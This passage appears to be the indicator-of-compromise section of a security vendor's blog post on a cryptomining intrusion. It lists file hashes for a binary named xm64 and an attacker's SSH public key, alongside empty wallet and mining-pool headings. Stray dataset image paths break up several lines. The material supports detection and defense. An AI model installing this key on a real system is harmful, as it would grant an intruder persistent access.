    Filename SHA2569a5f6318a395600637bd98e83d2aea787353207ed7792ec9911b775b79443dcd bd23597dbef85ba141da3a7f241c2187aa98420cc8b47a7d51a921058323d327
    xm64.tar.gz 96de9c6bcb75e58a087843f74c04af4489f25d7a9ce24f5ec15634ecc5a68cd7
    xm64 20a0864cb7dac55c184bd86e45a6e0acbd4bb19aa29840b824d369de710b6152 ae65e7c5f4ff9d56e882d2bbda98997541d774cefb24e381010c09340058d45f a34a36ec6b7b209aaa2092cc28bc65917e310b3181e98ab54d440565871168cb


    SSH Keys
    ssh-rsaAAAAB3NzaC1yc2EAAAADAQABAAABgQDV+S/3d5qwXg1yvfOm3ZTHqyE2F0zfQv1g12Wb7H4N5EnP1m8WvBOQKJ2htWqcDg2dpweE7htcRsHDxlkv2u+MC0g1b8Z/HawzqY2Z5FH4LtnlYq1QZcYbYIPzWCxifNbHPQGexpT0v/e6z27NiJa6XfE0DMpuX7lY9CVUrBWylcINYnbGhgSDtHnvSspSi4Qu7YuTnee3piyIZhN9m+tDgtz+zgHNVx1j0QpiHibhvfrZQB+tgXWTHqUazwYKR9td68twJ/K1bSY+XoI5F0hzEPTJWoCl3L+CKqA7gC3F9eDs5Kb11RgvGqieSEiWb2z2UHtW9KnTKTRNMdUNA619/5/HAsAcsxynJKYO7V/ifZ+ONFUMtm5oy1UH+49ha//UPWUA6T6vaeApzyAZKuMEmFGcNR3GZ6e8rDL0/miNTk6eq3JiQFR/hbHpn8h5Zq9NOtCoUU7lOvTGAzXBlfD5LIlzBnMA3EpigTvLeuHWQTqNPEhjYNy/YoPTgBAaUJE=root@kali


    Cryptocurrency Wallet ID

    Cryptocurrency Mining Pool

    If you're interested in seeing how the Cado platform can help you investigate and respond to such threats, contact us or check out our 14-day freetrial offering.

    ByMatt Muir & Nate BillMore from the blog

    View All Posts